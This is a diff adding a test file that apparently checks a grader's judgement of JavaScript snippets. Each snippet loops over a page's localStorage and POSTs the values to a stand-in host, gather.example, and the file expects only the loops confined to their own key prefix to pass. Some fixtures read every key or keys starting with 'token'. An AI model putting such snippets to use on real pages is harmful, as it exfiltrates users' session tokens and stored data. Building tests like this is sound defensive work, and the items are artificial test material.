@@ -1,0 +1,26 @@
+import { expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/** Code around the web page's storage, as libraries write it: all their keys begin with what their store is called. */
+const around = (prefix: string, check: string): string => `
+  const store = { prefix: ${prefix} };
+  function keep(name, value) { localStorage.setItem(store.prefix + name, value); }
+  function each(tell) {
+    for (let n = 0; n < localStorage.length; n++) {
+      const key = localStorage.key(n);
+      if (${check}) continue;
+      tell(localStorage.getItem(key));
+    }
+  }
+  keep('open', '1');
+  each((x) => fetch('https://gather.example/c', { method: 'POST', body: x }));`;
+
+it.each([
+  ['all of the page', around("location.host + '/'", 'key.length < 2'), false],
+  ['what another word begins', around("location.host + '/'", "key.indexOf('token') !== 0"), false],
+  ['what begins with nothing', around("''", 'key.indexOf(store.prefix) !== 0'), false],
+  ['what begins as its own keys do', around("location.host + '/'", 'key.indexOf(store.prefix) !== 0'), true],
+  ['what starts as its own keys do', around("'mine/' + 1", '!key.startsWith(store.prefix)'), true],
+])('sends %s', async (_, content, isOwn) => {
+  expect(/^A/.test(await graded({ content }))).toBe(isOwn);
+});
